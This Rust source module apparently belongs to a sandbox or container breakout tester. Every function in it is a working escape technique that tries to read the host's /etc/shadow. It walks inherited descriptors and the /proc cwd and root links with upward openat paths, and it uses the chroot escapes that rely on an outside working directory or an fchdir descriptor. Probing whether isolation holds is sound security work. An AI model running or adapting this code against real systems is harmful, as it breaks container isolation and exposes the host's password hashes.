//! Out by what a process has: its descriptors, its directory, its root.

use std::fs::{self, File};
use std::os::fd::AsFd;
use std::path::{Path, PathBuf};

use nix::fcntl::{OFlag, openat};
use nix::sys::stat::Mode;
use nix::unistd;

use crate::facts::Facts;
use crate::outcome::{Failure, Outcome, Step, any, refused};
use crate::secret;

/// The host's shadow from a directory that is open, upwards.
fn above(directory: &Path) -> Outcome {
    let open = File::open(directory).step("open")?;
    let up = Path::new("../../../../../../../../../../etc/shadow");
    let flags = OFlag::O_RDONLY | OFlag::O_CLOEXEC;
    let file = openat(open.as_fd(), up, flags, Mode::empty()).step("open upwards")?;
    secret::in_file(file.into(), &directory.display().to_string())
}

/// What this process, its parents and the first process have open, and where they are.
pub(crate) fn inherited(_: &Facts) -> Outcome {
    let mut tried = 0;
    for process in ["self", "thread-self", "1"] {
        let process = Path::new("/proc").join(process);
        let descriptors = fs::read_dir(process.join("fd"));
        let descriptors = descriptors.into_iter().flatten().flatten();
        let places = descriptors.map(|entry| entry.path());
        for place in places.chain([process.join("cwd"), process.join("root")]) {
            tried += 1;
            if let Ok(secret) = above(&place).or_else(|_| secret::at(place.join("etc/shadow"))) {
                return Ok(secret);
            }
        }
    }
    refused(format!("{tried} places"), "none is the host's")
}

/// Out of a root of one's own: what was open before is above it.
pub(crate) fn chroot(_: &Facts) -> Outcome {
    any([leave_root(), leave_root_by_descriptor()])
}

fn inner() -> Result<PathBuf, Failure> {
    let inner = PathBuf::from("/tmp/breakout-root");
    fs::create_dir_all(&inner).needed("a directory")?;
    Ok(inner)
}

/// The working directory stays where it is, outside of the new root, and has a way up.
fn leave_root() -> Outcome {
    let inner = inner()?;
    unistd::chdir("/").needed("chdir")?;
    unistd::chroot(&inner).step("chroot")?;
    climb()
}

fn leave_root_by_descriptor() -> Outcome {
    let top = File::open("/").needed("/")?;
    unistd::chroot(&inner()?).step("chroot")?;
    unistd::fchdir(top.as_fd()).step("fchdir")?;
    climb()
}

fn climb() -> Outcome {
    for _ in 0..64 {
        unistd::chdir("..").step("chdir ..")?;
    }
    unistd::chroot(".").step("chroot")?;
    secret::at("/etc/shadow")
}
